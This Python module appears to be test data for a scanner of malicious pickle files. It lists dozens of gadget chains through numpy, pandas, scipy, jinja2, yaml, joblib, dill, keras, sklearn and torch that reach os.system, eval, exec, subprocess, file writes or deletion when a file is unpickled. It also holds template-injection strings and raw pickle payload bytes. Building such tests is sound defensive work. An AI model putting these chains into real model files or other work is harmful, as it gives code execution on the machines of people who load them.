# ruff: noqa: FBT003 - tables of what others write

"""Calls of libraries beside which models live: what a pickle can run when these are installed."""

from __future__ import annotations

from third_asm import MARK, C, bound, system
from third_evil_calls import EXPRESSION, SHELL, TOUCH, WRITE, c, code_of, g, kw

RUN = f"import os\nos.system('{TOUCH}')\n"


def numeric():
    yield "numpy crackfortran myeval", c("numpy.f2py.crackfortran:myeval", EXPRESSION)
    yield "numpy crackfortran param_eval", c("numpy.f2py.crackfortran:param_eval", EXPRESSION, {}, {})
    yield "numpy runstring", c("numpy.testing._private.utils:runstring", WRITE, {})
    yield "numpy measure", c("numpy.testing:measure", WRITE)
    yield "numpy vectorize", C(c("numpy:vectorize", g("os:system")), (TOUCH,))
    yield "numpy frompyfunc", C(c("numpy:frompyfunc", g("os:system"), 1, 1), (TOUCH,))
    yield (
        "numpy apply_along_axis",
        kw(
            "numpy:apply_along_axis",
            c("builtins:eval", f"lambda v: __import__('os').system('{TOUCH}')"),
            0,
            [1, 2],
        ),
    )
    yield (
        "numpy fromfunction",
        c("numpy:fromfunction", c("builtins:eval", f"lambda *a: __import__('os').system('{TOUCH}')"), (2,)),
    )
    yield (
        "numpy loadtxt converter",
        kw(
            "numpy:loadtxt",
            ["1"],
            converters=c("builtins:eval", f"lambda s: __import__('os').system('{TOUCH}')"),
        ),
    )
    yield "numpy tofile", bound(c("numpy:arange", 4), "tofile", MARK)
    yield "numpy memmap", c("numpy:memmap", MARK, "u1", "w+", 0, (8,))
    yield "numpy save", c("numpy:save", MARK, [1, 2]), "open"
    yield "numpy savetxt", c("numpy:savetxt", MARK, [1, 2])
    yield (
        "numpy ctypeslib",
        bound(
            c("numpy.ctypeslib:load_library", "libc.so.6", "/lib/x86_64-linux-gnu"), "system", TOUCH.encode()
        ),
    )
    yield "numpy re-exports os", c("numpy.lib._datasource:os.system", TOUCH)
    yield "numpy.testing re-exports", c("numpy.testing._private.utils:os.system", TOUCH)
    yield (
        "scipy quad",
        c(
            "scipy.integrate:quad",
            c("builtins:eval", f"lambda x: float(__import__('os').system('{TOUCH}'))"),
            0,
            1,
        ),
    )
    yield (
        "scipy minimize_scalar",
        c(
            "scipy.optimize:minimize_scalar",
            c("builtins:eval", f"lambda x: __import__('os').system('{TOUCH}') + x * x"),
        ),
    )
    yield (
        "scipy generic_filter",
        c(
            "scipy.ndimage:generic_filter",
            [1.0, 2.0, 3.0],
            c("builtins:eval", f"lambda v: __import__('os').system('{TOUCH}')"),
            3,
        ),
    )
    yield "scipy savemat", c("scipy.io:savemat", MARK + ".mat", {"a": 1}), "open"
    yield (
        "pandas query python engine",
        kw(
            "pandas.core.frame:DataFrame.query",
            c("pandas:DataFrame", {"a": [1]}),
            f"@pd.io.common.os.system('{TOUCH}') == 0",
            engine="python",
            local_dict={"pd": c("importlib:import_module", "pandas")},
        ),
    )
    yield "pandas apply", bound(c("pandas:Series", [TOUCH]), "apply", g("os:system"))
    yield "pandas map", bound(c("pandas:Series", [TOUCH]), "map", g("subprocess:getoutput"))
    yield (
        "pandas agg",
        bound(
            c("pandas:DataFrame", {"a": [1, 2]}),
            "pipe",
            c("builtins:eval", f"lambda d: __import__('os').system('{TOUCH}')"),
        ),
    )
    yield "pandas to_csv", bound(c("pandas:DataFrame", {"a": [1]}), "to_csv", MARK)
    yield "pandas to_pickle", c("pandas:to_pickle", [1], MARK)
    yield "pandas get_handle", c("pandas.io.common:get_handle", MARK, "w")
    yield "pandas read_csv of an address", c("pandas:read_csv", "http://127.0.0.1:9/a.csv"), "socket.connect"
    yield "sympy sympify", c("sympy:sympify", EXPRESSION)
    yield "sympy parse_expr", c("sympy.parsing.sympy_parser:parse_expr", EXPRESSION)
    yield "sympy lambdify", C(c("sympy.utilities.lambdify:lambdify", (), EXPRESSION), ())
    yield "sympy import_module", bound(c("sympy.external.importtools:import_module", "os"), "system", TOUCH)


def tools():
    yield (
        "jinja2 render",
        bound(c("jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + TOUCH + "') }}"), "render"),
    )
    yield (
        "jinja2 native",
        bound(
            bound(
                c("jinja2:Environment"),
                "from_string",
                "{{ ''.__class__.__mro__[1].__subclasses__() and lipsum.__globals__['os'].popen('"
                + TOUCH
                + "').read() }}",
            ),
            "render",
        ),
    )
    yield "yaml.unsafe_load", c("yaml:unsafe_load", f"!!python/object/apply:os.system ['{TOUCH}']")
    yield (
        "yaml full constructor",
        c("yaml:load", f"!!python/object/apply:subprocess.getoutput [touch {MARK}]", g("yaml:UnsafeLoader")),
    )
    yield "psutil.Popen", bound(c("psutil:Popen", SHELL), "wait")
    yield "click editor", bound(c("click._termui_impl:Editor", "touch"), "edit_files", (MARK,))
    yield "PIL ImageShow", c("PIL.ImageShow:subprocess.call", ["touch", MARK])
    yield "attrs re-exports os", c("attr._make:linecache.os.system", TOUCH)
    yield "joblib re-exports os", c("joblib.numpy_pickle:os.system", TOUCH)
    yield "joblib Parallel", C(c("joblib:Parallel", 1), ([(g("os:system"), (TOUCH,), {})],))
    yield (
        "joblib delayed",
        bound(
            c(
                "joblib.parallel:BatchedCalls",
                [(g("os:system"), (TOUCH,), {})],
                c("joblib.parallel:get_active_backend"),
            ),
            "__call__",
        ),
    )
    yield (
        "joblib re-exports pickle",
        c("joblib.hashing:pickle.loads", b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR."),
    )
    yield "joblib dynamic loky", c("joblib.externals.loky.backend.spawn:util.os.system", TOUCH)
    yield "cloudpickle subimport", bound(c("cloudpickle.cloudpickle:subimport", "os"), "system", TOUCH)
    yield (
        "dill create_code path",
        C(c("dill._dill:_create_function", code_of(WRITE), c("builtins:globals")), ()),
    )
    yield "dill.loads", c("dill:loads", b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.")
    yield "tqdm re-exports os", bound(c("tqdm.utils:os.popen", TOUCH), "read")
    yield "setuptools run_setup", c("setuptools._distutils.core:run_setup", "third-victim/third_module.py")
    yield (
        "fsspec rm",
        bound(c("fsspec.implementations.local:LocalFileSystem"), "rm", "third-victim", True),
        "shutil.rmtree",
    )
    yield "fsspec writes", bound(c("fsspec.implementations.local:LocalFileSystem"), "pipe_file", MARK, b"x")
    yield "requests.get", c("requests:get", "http://127.0.0.1:9/?k"), "socket.connect"
    yield "urllib3 request", c("urllib3:request", "GET", "http://127.0.0.1:9/"), "socket.connect"
    yield "matplotlib re-export", c("matplotlib:subprocess.getoutput", TOUCH)
    yield (
        "matplotlib texmanager subprocess",
        c("matplotlib.texmanager:subprocess.check_output", ["touch", MARK]),
    )
    yield "networkx re-exports os", c("networkx.utils.backends:os.system", TOUCH)
    yield "omegaconf re-exports os", c("omegaconf.omegaconf:os.system", TOUCH)
    yield (
        "keras func_load",
        C(
            c(
                "keras.src.utils.python_utils:func_load",
                __import__("base64")
                .b64encode(__import__("marshal").dumps(compile(WRITE, "m", "exec")))
                .decode(),
            ),
            (),
        ),
    )
    yield "keras get_file", c("keras.utils:get_file", "x", "http://127.0.0.1:9/x"), "socket.connect"
    yield (
        "sklearn FunctionTransformer",
        bound(c("sklearn.preprocessing:FunctionTransformer", g("os:system")), "transform", TOUCH),
    )
    yield "sklearn re-exports os", c("sklearn.datasets._base:os.popen", TOUCH)
    yield "xgboost re-export", c("xgboost.libpath:os.system", TOUCH)
    yield (
        "lightgbm re-exports ctypes",
        bound(c("lightgbm.libpath:ctypes.CDLL", None), "system", TOUCH.encode()),
    )
    yield "distutils in setuptools", c("setuptools._distutils.util:execute", g("os:system"), (TOUCH,))
    yield "pip entry", c("pip._internal.utils.misc:os.system", TOUCH)
    yield "pytest re-exports os", c("_pytest.pathlib:os.system", TOUCH)
    yield "h5py file for writing", c("h5py:File", MARK, "w")


def torches():
    yield "collect_env run", c("torch.utils.collect_env:run", TOUCH)
    yield (
        "collect_env run_lambda",
        c(
            "torch.utils.collect_env:run_and_read_all",
            c("builtins:eval", "lambda c: (__import__('os').system(c), '', '')"),
            TOUCH,
        ),
    )
    yield (
        "fx forward from source",
        bound(
            c("torch.fx.graph_module:_forward_from_src", f"def forward(self, x={EXPRESSION}): return x", {}),
            "__call__",
            1,
        ),
    )
    yield "fx exec with source", c("torch.fx.graph_module:_exec_with_source", WRITE, {})
    yield (
        "hub state dict from an address",
        c("torch.hub:load_state_dict_from_url", "http://127.0.0.1:9/w.pt"),
        "socket.connect",
    )
    yield "hub _import_module", c("torch.hub:_import_module", "m", "third-victim/third_module.py")
    yield "ops load_library", bound(g("torch:ops"), "load_library", "third-victim/file"), "ctypes.dlopen"
    yield (
        "inductor PyCodeCache",
        c("torch._inductor.runtime.compile_tasks:_reload_python_module", "k", "third-victim/third_module.py"),
    )
    yield (
        "config module re-exports pickle",
        bound(
            c("torch.utils._config_module:pickle.loads", b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR."),
            "__str__",
        ),
    )
    yield "benchmark Timer", bound(c("torch.utils.benchmark:Timer", WRITE), "timeit", 1)
    yield (
        "decoder of data pipes",
        c(
            "torch.utils.data.datapipes.utils.decoder:basichandlers",
            "pickle",
            b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.",
        ),
    )
    yield (
        "tensor to object",
        bound(
            c(
                "torch.distributed.distributed_c10d:_unpickler",
                c("io:BytesIO", b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR."),
            ),
            "load",
        ),
    )
    yield "torch re-exports os", c("torch.serialization:os.system", TOUCH)
    yield "torch.os by itself", c("torch:os.system", TOUCH)
    yield "torch.storage re-export", c("torch.hub:os.popen", TOUCH)
    yield "cpp_extension subprocess", c("torch.utils.cpp_extension:subprocess.getoutput", TOUCH)
    yield "package importer re-exports builtins", c("torch.package.package_importer:builtins.exec", WRITE)
    yield "utils _import_dotted_name", C(c("torch._utils:_import_dotted_name", "os.system"), (TOUCH,))
    yield (
        "Tensor apply_",
        bound(
            c("torch:ones", 1),
            "apply_",
            c("builtins:eval", f"lambda v: float(__import__('os').system('{TOUCH}'))"),
        ),
    )
    yield (
        "Tensor map_",
        bound(
            c("torch:ones", 1),
            "map_",
            c("torch:ones", 1),
            c("builtins:eval", f"lambda a, b: float(__import__('os').system('{TOUCH}'))"),
        ),
    )
    yield "pytree map", c("torch.utils._pytree:tree_map", g("os:system"), [TOUCH])
    yield (
        "rebuild_from_type_v2",
        c("torch._tensor:_rebuild_from_type_v2", g("os:system"), g("builtins:int"), (TOUCH,), {}),
    )
    yield "torch.nn re-exports torch.os", c("torch.nn.modules.module:torch.os.system", TOUCH)
    yield "numpy array with a payload beside", (c("numpy:zeros", 3), system())


GROUPS = {"numeric": numeric, "tools": tools, "torches": torches}
